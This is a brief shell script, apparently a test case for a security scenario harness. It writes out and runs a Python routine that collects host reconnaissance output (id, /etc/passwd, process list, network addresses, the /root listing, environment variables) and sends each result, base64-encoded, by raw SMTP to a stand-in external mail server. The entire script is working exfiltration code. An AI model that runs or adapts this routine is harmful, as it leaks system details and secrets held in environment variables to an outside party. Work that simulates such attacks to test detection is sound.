#!/bin/sh
. /opt/case/case.sh

cat >/tmp/mail.py <<'END'
import base64, socket, subprocess, time
for n, c in enumerate(["id", "uname -a", "cat /etc/passwd", "ps aux", "ip addr", "ls -la /root", "env", "mount"]):
    out = base64.b64encode(subprocess.run(c, shell=True, capture_output=True).stdout).decode()
    s = socket.create_connection(("mail.example.net", 25))
    s.sendall(f"EHLO web\r\nMAIL FROM:<report{n}@example.org>\r\nRCPT TO:<drop@example.net>\r\nDATA\r\nSubject: report {n}\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{out}\r\n.\r\nQUIT\r\n".encode()); s.close(); time.sleep(0.5)
END
python3 /tmp/mail.py
took_place
